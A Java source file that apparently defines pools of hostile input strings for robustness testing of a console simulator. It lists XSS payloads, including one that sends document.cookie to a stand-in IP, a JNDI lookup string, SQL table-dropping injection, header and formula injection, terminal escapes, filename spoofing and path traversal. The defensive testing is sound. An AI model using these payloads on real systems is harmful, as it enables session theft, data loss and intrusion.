// Copyright the Birdsong authors
// SPDX-License-Identifier: Apache-2.0
package dev.birdsong.consolesimulator.population;

import dev.birdsong.consolesimulator.json.Pool;

/// What an attacker types to hurt whoever reads it.
final class Hostile {

    static final Pool TEXTS = Pool.of(
            "<script>alert(document.cookie)</script>",
            "\"><img src=x onerror=fetch('//203.0.113.9/'+document.cookie)>",
            "admin\u0000root",
            "invoice\u202Efdp.exe",
            "\u200F\u202B\u05E9\u05DC\u05D5\u05DD\u202C\u200E",
            "=HYPERLINK(\"http://203.0.113.9/\",\"open\")",
            "'; DROP TABLE incidents; --",
            "${jndi:ldap://203.0.113.9/a}",
            "\r\nX-Injected: yes\r\n\r\n<h1>hello",
            "\u001B[2J\u001B[31mowned\u0007",
            "{{7*7}} %s %n %x",
            "\uD83D\uDC26\uD83D\uDC26 \uD800 lone",
            "line\u2028separator\u2029and\u0085more",
            "../../../../etc/passwd",
            " ",
            "9".repeat(400));
    static final Pool HUGE = Pool.of("A".repeat(100_000), "<b>".repeat(33_000), "\u00E9\u4E2D".repeat(50_000));

    private Hostile() {}

    static Pool pool(long draw) {
        return Draws.below(40, draw) == 0 ? HUGE : TEXTS;
    }
}
